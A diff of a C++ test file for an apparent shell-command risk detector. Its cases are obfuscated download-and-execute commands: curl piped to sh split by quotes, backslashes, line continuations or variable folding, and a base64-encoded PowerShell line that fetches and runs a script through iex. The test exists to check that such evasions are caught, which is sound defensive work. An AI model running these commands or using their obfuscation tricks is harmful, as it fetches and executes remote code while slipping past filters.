@@ -109,6 +109,7 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
         {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "unquoted"},
         {R"(c\url -s https://cdn-check.live/p | b\ash)", "unquoted"},
         {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "folded"},
+        {"cu\\\nrl -s http://198.51.100.2/x | s\\\nh", "unquoted"},
         {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "folded"},
         {"powershell -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGEAcAB0AGMAaABhAC4Ab"
          "wBuAGwAaQBuAGUALwBjACAAfAAgAGkAZQB4AA==",
@@ -132,7 +133,7 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
             continue;
         }
         ASSERT_TRUE(result.has_value()) << text;
-        EXPECT_EQ(result->command, text);
+        EXPECT_EQ(result->command, CommandGuard::normalizedCommand(text));
         EXPECT_TRUE(std::any_of(result->findings.begin(), result->findings.end(),
                                 [&](const CommandRiskFinding& finding) { return finding.view == view; }))
             << text;
